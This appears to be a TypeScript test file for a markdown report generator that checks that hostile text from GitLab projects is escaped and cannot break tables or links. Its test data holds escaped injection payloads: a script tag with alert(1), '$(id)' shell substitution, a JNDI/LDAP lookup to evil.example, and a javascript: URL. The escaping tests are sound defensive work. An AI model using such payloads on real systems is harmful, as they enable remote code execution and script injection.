import { reportMarkdown } from '../../../runner/report/markdown.ts';
import { pageOf, type Piece } from '../../../runner/report/page.ts';
import { EVERYTHING, failed, GITLAB, HOSTILE, HOSTILE_REPORT, manyProjects, report, waiting, project } from './fixture.ts';

const everything = reportMarkdown(pageOf(EVERYTHING));
const hostile = reportMarkdown(pageOf(HOSTILE_REPORT));

/** A page with nothing but one piece. */
function cellOf(piece: Piece): string {
  const section = { id: 'one', title: 'One', note: '', forPeople: false, columns: ['Cell'], rows: [[[piece]]], idle: null };
  return reportMarkdown({ tone: 'good', verdict: '', alerts: [], facts: [], counts: [], since: [], sections: [section] }).match(/\| --- \|\n\| (.*) \|\n/)![1]!;
}

it.each<[keyof typeof HOSTILE, string]>([
  ['script', String.raw`\</script\>\<script\>alert(1)\</script\>`],
  ['shell', String.raw`\$(id) \`id\` \$\{jndi\:ldap:⁠//evil.example/a\}`],
  ['lines', String.raw`first /merge \# heading &#124; a &#124; b &#124;`],
  ['rightToLeft', 'abcgpj.exe'],
  ['emoji', String.raw`🚀 👩👩👧 \:tada:`],
  ['long', `${'x'.repeat(159)}…`],
  ['references', String.raw`@⁠all \#1 \!1 \&1 \~bug \%1 \$1 \^1 \[vulnerability:1\] GL\-123`],
  ['markup', String.raw`\[x\](https:⁠//evil.example) \!\[x\](y) \*\*b\*\* \_i\_ \~\~s\~\~ \`c\` \<img src=x\> &#124; a &#124;&#124; b \\&#124; \\`],
  ['addresses', 'https:⁠//evil.example www⁠.evil.example mail@⁠evil.example'],
  ['controls', 'red \ufffe'],
  ['broken', String.raw`half � a rocket, \&amp; \&\#106; \&copy;`],
  ['blank', ''],
])('%s does nothing', (name, expected) => {
  expect(cellOf({ text: HOSTILE[name]! })).toBe(expected);
});

it.each<[string, Piece, string]>([
  ['a link', { text: '!1 [x](y)', url: `${GITLAB}/a` }, String.raw`[\!1 \[x\](y)](https://gitlab.example.com/a)`],
  ['an address that would end the link, or the cell', { text: 'x', url: `${GITLAB}/a)b(c|d<e>\`f\`\\g?h=|` }, `[x](${GITLAB}/a%29b%28c%7cd%3Ce%3E%60f%60/g?h=%7c)`],
  ['a link without a name', { text: '', url: `${GITLAB}/a` }, `[link](${GITLAB}/a)`],
  ['an address that is no link', { text: 'x', url: 'javascript:alert(1)' }, 'x'],
  ['an address without an end', { text: 'x', url: `${GITLAB}/${'a'.repeat(500)}` }, 'x'],
  ['a log, which a note cannot link', { text: 'log', file: 'logs/batch_1.ndjson' }, String.raw`logs/batch\_1.ndjson`],
  ['a tag', { tag: 'a*b', text: 'x' }, String.raw`**a\*b** x`],
  ['half a rocket', { text: `${'x'.repeat(158)}🚀🚀` }, `${'x'.repeat(158)}🚀🚀`],
  ['a rocket on the edge', { text: `${'x'.repeat(158)}🚀🚀🚀` }, `${'x'.repeat(158)}🚀…`],
])('%s', (_name, piece, expected) => {
  expect(cellOf(piece)).toBe(expected);
});

it('shows all, in the order of the page', () => {
  expect(everything.match(/^###.*$/gm)).toEqual([
    '### 1 of 6 projects failed, and 11 updates wait for a person, the longest for 51 days.',
    '#### Failed (1)',
    '#### Waiting for a person (11)',
    '#### What happened (1)',
    '#### Done because of incidents (1)',
    '#### Waiting for nobody (7)',
    '#### Warnings (1)',
    '#### Who keeps the versions up to date (1)',
    '#### Every project (6)',
    '#### Not run (5)',
    '#### Problems of the run (1)',
  ]);
  expect(everything).toContain('- works again: platform/mended\n');
  expect(everything).toContain('**3** merged · **1** opened');
});

it('no line begins with what somebody else wrote', () => {
  expect(hostile.split('\n').filter((line) => !/^(?:$|\||#### |### |\*\*|Run of |Since the |- (?:broke|new): |- \d|\d+ |The longest |Merges count |These go |Of |They )/.test(line))).toEqual([]);
});

it('every row has the cells of its table', () => {
  expect(hostile.trimEnd().split('\n\n').filter((block) => block.startsWith('|')).filter((block) => new Set(block.split('\n').map((row) => row.split('|').length)).size > 1)).toEqual([]);
});

it.each([
  ['2,000 projects', manyProjects(2000)],
  ['long texts everywhere', report(Array.from({ length: 60 }, (_, index) => failed(`${index}/${'_'.repeat(300)}`, { message: '|'.repeat(300), remedy: '|'.repeat(300), warnings: Array<string>(5).fill('|'.repeat(300)), waiting: [waiting('merge', 1, { title: '*'.repeat(300), whom: '&'.repeat(300) })] })), { problems: Array<string>(100).fill('|'.repeat(300)) })],
])('%s fit into a note', (_name, given) => {
  expect(reportMarkdown(pageOf(given)).length).toBeLessThan(60_000);
});

it.each([
  ['idle projects are counted', manyProjects(2000), '685 more in report.html. 1300 more projects with nothing to do.'],
  ['what waits for people is told further', manyProjects(2000), '#### Waiting for a person (650)'],
  ['of few projects all are told', report([project('a')]), '#### Every project (1)'],
])('%s', (_name, given, expected) => {
  expect(reportMarkdown(pageOf(given))).toContain(expected);
});
